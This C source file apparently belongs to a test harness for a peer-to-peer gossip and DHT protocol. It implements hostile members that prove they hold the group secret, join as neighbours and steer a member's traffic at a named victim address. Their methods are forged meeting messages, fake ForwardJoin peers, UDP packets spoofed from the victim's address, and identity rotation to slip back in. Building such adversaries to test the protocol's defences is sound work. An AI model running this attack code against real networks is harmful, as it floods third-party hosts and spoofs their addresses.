/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * Hostile members: they hold the secret and prove it, are neighbours of a member, and make it send
 * to a victim that they name, as fast as the wire lets them.
 *
 * usage: attack-aimer KIND TOPIC SECRET VICTIM:PORT HOSTS SECONDS MEMBER [OTHER]
 *
 *   told    the middle of meetings: ever new members, seen at the victim, name it as their own
 *   ask     askers that name it as their own, and want OTHER, a neighbour of MEMBER, to be told
 *   name    ForwardJoin of ever new peers behind a NAT at the victim; asked about them, the middle
 *           says that it has told them and sees them there
 *   knock   the same, and the knocks that MEMBER waits for come from the victim's address, which
 *           this host must be able to forge; the neighbours come back under other identities
 *   refuse  the same without knocks, and the middle says that it cannot help
 *
 * MEMBER and OTHER are ID@ADDR:PORT; HOSTS: addresses of the victim, from VICTIM on. Prints a line
 * when it has begun, and at the end one that counts.
 */
#include "stranger.h"

#include "crypto/ed25519.h"
#include "dht/krpc.h"
#include "gossip/addr_info.h"
#include "gossip/stream.h"
#include "record/meet_message.h"
#include "record/proof.h"
#include "record/slot.h"

#include <stdio.h>
#include <stdlib.h>

#define AIMERS 5       /* neighbours of the member at the same time */
#define LIFE 16        /* times that one aims before it comes back as another member */
#define TURN_MS 50     /* between two things that one of them sends */
#define NAMED_KNOCKS 2 /* forged ones for each question */

enum kind { TOLD, ASK, NAME, KNOCK, REFUSE, KINDS };
static const char *const kinds[KINDS] = {"told", "ask", "name", "knock", "refuse"};

static enum kind kind;
static struct dtt_gossip_topic_id topic;
static struct dtt_secret secret;
static struct dtt_addr victim;
static unsigned hosts, named;
static struct dtt_id member, other;
static struct dtt_addr member_addr;
static struct dtt_udp forged; /* bound to the victim's address */
static struct stranger all[AIMERS];
static unsigned long sent, questions, answers, refusals;

static void entropy(void *ret, size_t len)
{
    if (dtt_host_entropy(ret, len)) {
        stranger_die("no randomness");
    }
}

/* The victim's next address, under ever new ports. */
static struct dtt_addr next_victim(void)
{
    struct dtt_addr addr = victim;
    addr.ip[3] = (uint8_t)(victim.ip[3] + named % hosts);
    addr.port = (uint16_t)(victim.port + named / hosts % 1000);
    named++;
    return addr;
}

static void seed_of(uint64_t minute, uint8_t ret[32])
{
    if (dtt_secret_rotate(ret, &secret, topic.bytes, minute)) {
        stranger_die("no seed");
    }
}

/* ---- a neighbour that has proven that it holds the secret */

static void prove(struct stranger *s)
{
    uint64_t minute = dtt_now_minute(dtt_host_now());
    struct dtt_proof_bond bond = {
        .prover = *dtt_quic_id(s->quic), .verifier = s->target_id, .is_dialler = true};
    struct dtt_gossip_topic_id proofs;
    uint8_t bytes[DTT_GOSSIP_HEADER_FRAME + 4 + DTT_PROOF_LEN];
    uint8_t *frame = bytes + DTT_GOSSIP_HEADER_FRAME;
    uint8_t seed[32];
    int64_t stream;
    seed_of(minute, seed);
    memcpy(proofs.bytes, dtt_proof_stream_topic, sizeof(proofs.bytes));
    dtt_gossip_stream_header(bytes, &proofs);
    if (!dtt_quic_exporter(s->quic, s->conn, bond.exporter) ||
        dtt_quic_open_uni(s->quic, s->conn, &stream)) {
        stranger_die("no proof");
    }
    dtt_put_be32(frame, DTT_PROOF_LEN);
    dtt_proof_write(frame + 4, seed, topic.bytes, minute, &bond);
    (void)dtt_quic_write(s->quic, s->conn, stream, dtt_slice(bytes, sizeof(bytes)), false);
}

static void on_krpc(struct stranger *s, const struct dtt_addr *from, struct dtt_slice datagram);

/* Under an identity of its own; it may be kept out, and comes again. */
static void befriend(struct stranger *s)
{
    struct dtt_addr any = {.family = member_addr.family};
    stranger_close(s);
    s->on_krpc = on_krpc;
    stranger_open(s, &any, &member, &member_addr, false);
    if (stranger_connect(s) && stranger_speak(s, &topic) == DTT_OK) {
        prove(s);
        stranger_join(s);
        stranger_run(s, 1, 300);
    }
}

/* ---- datagrams of meetings */

static struct dtt_slice compact(uint8_t buf[DTT_ADDR_COMPACT6], const struct dtt_addr *addr)
{
    struct dtt_writer w = dtt_writer(buf, DTT_ADDR_COMPACT6);
    dtt_addr_write_compact(&w, addr);
    return dtt_slice(buf, w.len);
}

static void send_krpc(struct stranger *s, struct dtt_krpc *m)
{
    static const uint8_t node_id[DTT_NODE_ID_BYTES] = {1};
    uint8_t bytes[512];
    m->id = dtt_slice(node_id, sizeof(node_id));
    int len = dtt_krpc_encode(m, bytes, sizeof(bytes));
    if (len < 0) {
        stranger_die("the datagram is too long");
    }
    stranger_send(s, &member_addr, dtt_slice(bytes, (size_t)len));
    sent++;
}

/* The member of the seed `from` wants `to` to be told; `seen`: what a middle says, or NULL. */
static void send_query(struct stranger *s, const uint8_t from[32], const struct dtt_id *to,
                       const struct dtt_addr *seen)
{
    struct dtt_meet_message meet = {.kind = DTT_MEET_ASK, .to = *to};
    struct dtt_meet_head head = {.minute = (uint32_t)dtt_now_minute(dtt_host_now())};
    uint8_t m[DTT_MEET_MESSAGE_MAX], o[DTT_ADDR_COMPACT6] = {0}, t[4], seed[32];
    dtt_ed25519_public_key(meet.from.bytes, from);
    while (meet.n < DTT_MEET_MESSAGE_ADDRS) {
        meet.addrs[meet.n++] = next_victim();
    }
    entropy(head.nonce, sizeof(head.nonce));
    entropy(t, sizeof(t));
    seed_of(head.minute, seed);
    size_t len = dtt_meet_message_seal(m, &meet, &head, seed, topic.bytes, from);
    send_krpc(s, &(struct dtt_krpc){.type = DTT_KRPC_QUERY,
                                    .method = DTT_KRPC_M_DTT_MEET,
                                    .t = dtt_slice(t, sizeof(t)),
                                    .m = dtt_slice(m, len),
                                    .o = seen ? compact(o, seen) : dtt_slice(o, sizeof(o))});
}

static void forge_knocks(const struct dtt_addr *to)
{
    static const uint8_t knock[1] = {0};
    for (unsigned i = 0; i < NAMED_KNOCKS; i++) {
        (void)dtt_udp_add(&forged, NULL, to, 0, 0, 1, dtt_slice(knock, 1));
        (void)dtt_udp_flush(&forged);
    }
}

/* The member asks us to tell a peer that we have named. */
static void on_krpc(struct stranger *s, const struct dtt_addr *from, struct dtt_slice datagram)
{
    struct dtt_krpc q;
    uint8_t o[DTT_ADDR_COMPACT6];
    if (dtt_krpc_decode(datagram, &q) != DTT_OK) {
        return;
    }
    answers += q.type == DTT_KRPC_REPLY;
    refusals += q.type == DTT_KRPC_ERROR;
    if (q.type != DTT_KRPC_QUERY || q.method != DTT_KRPC_M_DTT_MEET) {
        return;
    }
    questions++;
    if (kind == REFUSE) {
        send_krpc(s, &(struct dtt_krpc){.type = DTT_KRPC_ERROR,
                                        .t = q.t,
                                        .error = DTT_KRPC_E_GENERIC,
                                        .error_text = dtt_slice("", 0)});
    } else {
        send_krpc(s,
                  &(struct dtt_krpc){.type = DTT_KRPC_REPLY, .t = q.t, .o = compact(o, &victim)});
    }
    if (kind == KNOCK) {
        forge_knocks(from);
    }
}

/* ---- hearsay */

static void name_peer(struct stranger *s)
{
    struct dtt_gossip_message m = {.type = DTT_MSG_FORWARD_JOIN};
    struct dtt_addr addrs[2] = {dtt_addr_v4(192, 168, 77, 7, 4000), next_victim()};
    uint8_t info[128], seed[32];
    struct dtt_writer w = dtt_writer(info, sizeof(info));
    entropy(seed, sizeof(seed));
    dtt_addr_info_write(&w, "", addrs, 2);
    dtt_addr_info_write_mark(&w);
    dtt_ed25519_public_key(m.u.forward_join.peer.id.bytes, seed);
    m.u.forward_join.peer.data.is_some = true;
    m.u.forward_join.peer.data.bytes = dtt_slice(info, w.len);
    (void)stranger_say(s, &m);
    sent++;
}

static void aim(struct stranger *s)
{
    uint8_t fresh[32];
    struct dtt_addr seen;
    switch (kind) {
    case TOLD:
        entropy(fresh, sizeof(fresh));
        seen = next_victim();
        send_query(s, fresh, &member, &seen);
        break;
    case ASK: send_query(s, s->seed, &other, NULL); break;
    default: name_peer(s); break;
    }
}

static void run(unsigned seconds)
{
    for (unsigned i = 0; i < AIMERS; i++) {
        befriend(&all[i]);
        if (!all[i].is_connected) {
            stranger_die("the member does not let me in");
        }
    }
    printf("{\"event\":\"begun\"}\n");
    fflush(stdout);
    uint64_t end_ns = stranger_now_ns() + seconds * DTT_S;
    for (unsigned turn = 0; stranger_now_ns() < end_ns; turn++) {
        struct stranger *s = &all[turn % AIMERS];
        bool is_old = kind >= KNOCK && turn / AIMERS % LIFE == turn % AIMERS;
        if (s->is_closed || is_old) {
            befriend(s);
        }
        if (s->is_connected && !s->is_closed) {
            aim(s);
        }
        stranger_run(all, AIMERS, TURN_MS);
    }
}

static void read_line(char **words)
{
    while (kind < KINDS && strcmp(words[1], kinds[kind]) != 0) {
        kind++;
    }
    dtt_secret_init(&secret, dtt_slice(words[3], strlen(words[3])), NULL, NULL);
    hosts = (unsigned)strtoul(words[5], NULL, 10);
    if (kind == KINDS || hosts == 0 || dtt_slot_topic(topic.bytes, words[2], NULL) ||
        dtt_addr_parse(words[4], &victim)) {
        stranger_die("a word of the command line is none");
    }
    stranger_read_target(words[7], &member, &member_addr);
    if (words[8]) {
        struct dtt_addr unused;
        stranger_read_target(words[8], &other, &unused);
    }
}

int main(int argc, char **argv)
{
    if (argc < 8 || argc > 9) {
        stranger_die(
            "usage: attack-aimer KIND TOPIC SECRET VICTIM:PORT HOSTS SECONDS MEMBER [OTHER]");
    }
    read_line(argv);
    if (kind == KNOCK && dtt_udp_open(&forged, &victim)) {
        stranger_die("the victim's address cannot be forged here");
    }
    run((unsigned)strtoul(argv[6], NULL, 10));
    printf(
        "{\"event\":\"report\",\"sent\":%lu,\"questions\":%lu,\"answers\":%lu,\"refusals\":%lu}\n",
        sent, questions, answers, refusals);
    return 0;
}
